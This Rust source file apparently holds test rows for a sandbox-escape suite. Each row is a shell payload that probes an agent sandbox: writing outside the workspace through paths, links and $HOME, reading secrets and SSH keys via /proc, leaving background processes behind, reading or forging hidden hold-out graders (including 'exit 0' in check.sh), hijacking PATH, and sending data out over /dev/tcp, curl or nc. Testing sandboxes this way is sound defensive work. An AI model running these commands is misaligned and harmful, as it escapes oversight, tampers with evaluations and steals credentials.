//! Attacks by shell text, as it occurs in commands of a pipeline. No layer of the sandbox parses the text, so the
//! verdict depends only on the state outside of the sandbox.

use crate::row::{Payload, Proof, Row, Source};

#[rustfmt::skip]
pub(super) const ROWS: &[Row] = &[
    Row::new("sh-parent", Source::Pipeline(1), "copy a file to the parent folder by `cp`", "view", Payload::Shell("cp out/own.txt ../{planted}; cp out/own.txt {open}/{planted}")),
    Row::new("sh-quotes", Source::Pipeline(2), "copy a file to the parent folder by a path split by quotes", "view", Payload::Shell("cp out/own.txt .\"\".\"/\"{planted}; echo x > {open}'/'{planted}")),
    Row::new("sh-no-space", Source::Pipeline(3), "write outside by a redirection without a space", "view", Payload::Shell("echo x >{open}/{planted};echo x >>{secret}")),
    Row::new("sh-home", Source::Pipeline(3), "write outside by `$HOME` and its parents", "view", Payload::Shell("echo x > $HOME/{planted}; echo x > ${HOME%/*}/{planted}; cat {key} $HOME/.ssh/id_rsa")),
    Row::new("sh-pwd", Source::Pipeline(3), "write outside by a path cut from `$PWD`", "view", Payload::Shell("echo x > ${PWD%/*}/{planted}; echo x > ${PWD%/*/*}/{planted}")),
    Row::new("sh-link", Source::Pipeline(4), "write outside through a symbolic link", "view", Payload::Shell("ln -s {secret} out/sh-link && echo x >> out/sh-link; cat out/sh-link")),
    Row::new("sh-link-folder", Source::Pipeline(5), "write outside through a symbolic link to a folder", "view", Payload::Shell("ln -s {open} out/sh-folder && echo x > out/sh-folder/{planted}")),
    Row::new("sh-hardlink", Source::Pipeline(6), "write outside through a hard link", "view", Payload::Shell("ln {secret} out/sh-hard && echo x >> out/sh-hard; cat out/sh-hard")),
    Row::new("sh-proc", Source::Pipeline(7), "read a file outside by `/proc/self/root` and `/proc/self/fd`", "view", Payload::Shell("cat /proc/self/root{secret}; cat /proc/self/fd/[3-9]*; cat /proc/*/root{secret}")),
    Row::new("sh-background", Source::Pipeline(8), "leave a background process that writes later", "PID 1", Payload::Shell("(sleep 2; echo x > {open}/{planted}; {attacker}/glovebox-hostile lie-low {mark}) >/dev/null 2>&1 &")).proof(Proof::Reaped),
    Row::new("sh-nohup", Source::Sandbox(56), "leave a background process by `setsid` and `nohup`", "PID 1", Payload::Shell("setsid nohup {attacker}/glovebox-hostile lie-low {mark} >/dev/null 2>&1 &")).proof(Proof::Reaped),
    Row::new("sh-metadata", Source::Pipeline(10), "change mode and times of a file outside", "view", Payload::Shell("chmod 777 {secret}; touch -d @1 {secret}; chmod 700 {open}")).landlock("Landlock cannot restrict modes, owners, times and attributes"),
    Row::new("sh-hold-out", Source::Pipeline(14), "search for hidden scenarios in folders of other tools", "mask layer", Payload::Shell("find / -xdev -name '*hidden_read_paths*' -exec cat '{}' + 2>/dev/null; cat {project}/scenarios/* {folder}/project/scenarios/*")),
    Row::new("sh-original", Source::Pipeline(16), "read the original project folder", "view", Payload::Shell("cat {folder}/project/scenarios/holdout-canary.txt; cat ../project/scenarios/*; ls -R {folder}")),
    Row::new("sh-git", Source::Pipeline(17), "read a hold-out from the repository's objects", "view", Payload::Shell("git -C {folder}/project log -p; git log -p --all; git fsck --lost-found; git show HEAD:scenarios/holdout-canary.txt")),
    Row::new("sh-recreate", Source::Pipeline(15), "replace the hidden hold-out with a forged one", "protected paths", Payload::Shell("mkdir -p scenarios && echo 'exit 0' > scenarios/check.sh")).proof(Proof::Commit("scenarios")),
    Row::new("sh-path-hijack", Source::Sandbox(62), "make a program in the workspace come first in `PATH`", "fixed PATH", Payload::Shell("printf '#!/bin/sh\\necho hijacked\\n' > uname; chmod 755 uname; uname")).proof(Proof::Never("hijacked")),
    Row::new("sh-environment", Source::Pipeline(26), "print every environment variable", "empty environment", Payload::Shell("env")).proof(Proof::Environment),
    Row::new("sh-network", Source::Pipeline(27), "send a secret over the network", "network namespace", Payload::Shell("(exec 3<>/dev/tcp/{lan}) 2>/dev/null; command -v curl >/dev/null && curl -s -m 1 http://{tcp}/ http://{lan}/; command -v nc >/dev/null && echo x | nc -w 1 127.0.0.1 1; true")),
];
